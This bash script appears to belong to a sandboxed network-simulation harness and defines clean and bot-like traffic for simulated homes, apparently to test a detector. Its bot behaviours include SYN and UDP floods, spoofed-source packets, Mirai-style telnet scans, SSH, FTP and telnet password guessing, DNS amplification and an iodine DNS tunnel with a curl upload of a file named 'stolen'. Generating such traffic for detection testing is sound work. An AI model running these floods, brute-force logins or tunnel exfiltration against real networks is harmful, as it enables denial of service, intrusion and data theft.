# What the homes do. Sourced by world.bash.
#
# behaviours: one line an exchange, "name|kind|count|words": kind is bot or clean, count how many acts it is made of.
# behave_NAME runs with `name`, `number` and `address` of its home set; it fails when the exchange did not come about.
behaviours() {
  cat <<'LIST'
mail_direct_rejected|bot|14|mail straight to 14 exchangers, most recipients refused
mail_relay|clean|6|six letters through the relay of the ISP, ports 25 and 587
mail_relay_flood|bot|300|300 mails through the relay of the ISP, two a connection
mail_exchangers|bot|12|questions for the mail exchangers of twelve names
mail_list_host|clean|12|a small mail server at home, twelve mails to three peers
dns_nxdomain|bot|64|64 generated names that do not exist, real ones between them
dns_normal|clean|30|names as people and programs ask for them
dns_tunnel|bot|1|iodine through the resolver, 40 kB carried out through the tunnel
ssh_failed_logins|bot|16|16 wrong passwords at an SSH server
ssh_normal|clean|4|four logins by key, data both ways
ftp_failed_logins|bot|16|16 wrong passwords at an FTP server
telnet_failed_logins|bot|16|16 wrong passwords at a telnet server
tls_hellos|clean|9|TLS clients with and without server name and ALPN
syn_flood|bot|6000|6000 SYNs to one open port that soon has no room for more, never completed
udp_flood|bot|5000|5000 datagrams to one address
open_resolver|bot|300|long answers to strangers who ask again and again
spoofed_sources|bot|200|200 packets in the names of others
scan_telnet|bot|352|nmap looks for telnet at 320 addresses
scan_mirai|bot|60|SYNs to telnet at 60 addresses, each with the address as its sequence number
scan_answered|clean|100|nmap on 100 ports of one own server
scan_own_server|clean|1000|nmap on 1000 ports of one own server
web_browsing|clean|24|pages over HTTP and HTTPS from six sites
voice_rtp|clean|200|four seconds of voice both ways
ntp_client|clean|3|chrony asks the clock of the ISP
LIST
}

at_home() { within "$name" timeout 60 "$@"; }
ours() { at_home python3 -W ignore $run/clients.py "$@"; }
# nping at the level of frames: whatever the home's kernel thinks of the addresses. It captures, although nobody reads
# what: without a capture it does not wait for the timer of its last packet, and at times leaves before that is sent.
raw_packets() {
  at_home nping --quiet --hide-sent --send-eth --interface line --source-mac "$(mac_of "$number")" \
    --dest-mac $gateway_mac "$@" </dev/null
}

behave_mail_direct_rejected() {
  # shellcheck disable=SC2046
  ours spam $(printf '198.18.%d.25 ' {120..133})
}
behave_mail_relay() {
  ours submit $relay 25 3 1
  ours submit $relay 587 3 3
}
behave_mail_relay_flood() { ours submit $relay 25 300 2; }
behave_mail_exchangers() { ours exchangers {peer,www.site}{1,2,3,4,5,6}.example; }
behave_mail_list_host() {
  at_home python3 - <<'PY'
import smtplib
with smtplib.SMTP("127.0.0.1", 25) as smtp:
    for i in range(4):
        smtp.sendmail("list@site.example", [f"member{i}@peer{p}.example" for p in (1, 2, 3)],
                      f"Subject: list {i}\r\n\r\nNews for members.\r\n")
PY
  until_true 20 delivered 12
}
delivered() { (($(grep -c 'mta delivery.*result="Ok"' log/list) >= $1)); }

behave_dns_nxdomain() { ours generated 64 20081123; }
behave_dns_normal() {
  ours resolve www.site{1,2,3,4,5,6}.example mx.peer{1,2}.example www.site1.example www.site4.example
  ours resolve wwww.site1.example www.sitr2.example ww.site3.example  # typing errors
  ours resolve printer nas fileserver                                 # the search suffix makes these the ISP's
  ours resolve qpwlzkxmvn. hgtrkdbaxo. uqyzcfjwie.                    # browsers test for resolvers that lie
  ours resolve www.site{2,3,5,6}.example
  ours reverse 198.18.80.{1,2,3} 198.18.90.7
}
behave_dns_tunnel() {
  if [[ ! -c /dev/net/tun ]]; then  # a tunnel's questions without a tunnel
    ours tunnel_by_txt t.tunnel.example 20000
    return
  fi
  within "$name" timeout 60 iodine -f -r -P tunnel -m 900 -L 0 -I 1 $resolver t.tunnel.example &
  until_true 20 within "$name" ip route get 172.31.255.1 oif dns0
  at_home curl -sS -m 40 --retry 3 --retry-all-errors -o /dev/null -T /var/www/stolen http://172.31.255.1:8080/
  kill $!
}

behave_ssh_failed_logins() {
  seq 16 | at_home xargs -P 4 -I{} sh -c "sshpass -p guess{} ssh -F none -o PreferredAuthentications=password \
    -o NumberOfPasswordPrompts=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
    admin@198.18.22.22 true || true"
  (($(grep -c 'Failed password' log/sshd) == 16))
}
behave_ssh_normal() {
  local ssh=(ssh -F none -i $run/client_key -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o BatchMode=yes
    -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@198.18.22.22)
  at_home "${ssh[@]}" 'head -c 200000 /dev/zero' | wc -c
  head -c 200000 /dev/zero | at_home "${ssh[@]}" 'wc -c'
  at_home "${ssh[@]}" 'for i in 1 2 3 4 5; do echo line; sleep 0.3; done' </dev/null
  at_home "${ssh[@]}" true </dev/null
}
behave_ftp_failed_logins() { ours ftp_guess 198.18.21.21 8 | grep '^16 refused'; }
behave_telnet_failed_logins() {
  local i jobs=()
  for i in 1 2 3 4 5 6 7 8; do
    ours telnet_guess 198.18.23.$i 2 &
    jobs+=($!)
  done
  for i in "${jobs[@]}"; do wait "$i"; done
}

behave_tls_hellos() {
  local to=198.18.44.44:443
  local client=(at_home openssl s_client -connect $to)
  "${client[@]}" -servername one.example </dev/null
  "${client[@]}" -servername two.example -alpn h2,http/1.1 </dev/null
  "${client[@]}" -servername three.example -tls1_2 </dev/null
  "${client[@]}" -noservername </dev/null
  local curl=(at_home curl -ksS -m 10 -o /dev/null --connect-to "::$to")
  "${curl[@]}" --http1.1 https://four.example/
  "${curl[@]}" --no-alpn https://five.example/
  "${curl[@]}" --tls-max 1.2 --http1.1 https://six.example/
  at_home gnutls-cli --insecure --sni-hostname seven.example --port 443 198.18.44.44 </dev/null
  at_home gnutls-cli --insecure --alpn http/1.1 --sni-hostname eight.example --port 443 198.18.44.44 </dev/null
}

behave_syn_flood() { ours syn_flood "$address" 198.18.80.7 "$(mac_of "$number")" $gateway_mac 6000; }
behave_udp_flood() { ours udp_flood 198.18.99.99 9999 5000; }
behave_open_resolver() {
  within world timeout 30 python3 -W ignore $run/clients.py amplify "$address" 300 198.18.66.{1,2,3}
}
behave_spoofed_sources() {
  local source
  for source in 203.0.113.{5,6,7,8}; do
    raw_packets --tcp --flags syn --source-ip $source --dest-port 80 --rate 200 -c 25 198.18.80.5
    raw_packets --udp --source-ip $source --dest-port 53 --data-length 40 --rate 200 -c 25 198.18.53.53
  done
}

behave_scan_telnet() {
  # Half silent, nearly half "host unreachable", and sixteen there: telnet answers. 2323 is closed, on twice as many hosts
  # as the detector needs, so that it has made up its mind before the capture ends.
  local as_a_bot=(at_home nmap -sS -n -Pn -T4 --randomize-hosts --max-retries 0 --max-rate 10 --host-timeout 50s)
  "${as_a_bot[@]}" -p 23 198.19.0.0/26 198.19.32.0/26 198.19.64.0/27 198.19.96.0/28 198.19.200.0/25 198.18.200.0/28
  "${as_a_bot[@]}" -p 2323 198.18.200.0/27
}
# Written by ourselves from what was published about Mirai's scanner: nobody shares a capture of it.
behave_scan_mirai() { ours mirai "$address" "$(mac_of "$number")" $gateway_mac 60; }
behave_scan_answered() { at_home nmap -sT -n -Pn -T4 -p 1-98,443,8080 198.18.80.1; }
# Slower than a flood, on however slow a machine.
behave_scan_own_server() { at_home nmap -sS -n -Pn -T4 --max-rate 150 -p 1-1000 198.18.80.2; }

behave_web_browsing() {
  local site page scheme
  for site in 1 2 3 4 5 6; do
    for scheme in http https; do
      at_home curl -ksS -m 10 -o /dev/null -o /dev/null "$scheme://www.site$site.example/"{20,60}.html
    done
    sleep 0.3
  done
}
behave_voice_rtp() { ours rtp_call 198.18.60.60 16384 4; }
behave_ntp_client() {
  printf 'server %s iburst\ncmdport 0\nbindcmdaddress /\npidfile /run/chronyd-home.pid\n' $clock >$run/home_clock.conf
  # -Q: asks what the time is, and leaves the clock of this machine alone.
  at_home chronyd -Q -t 40 -u root -f $run/home_clock.conf
}
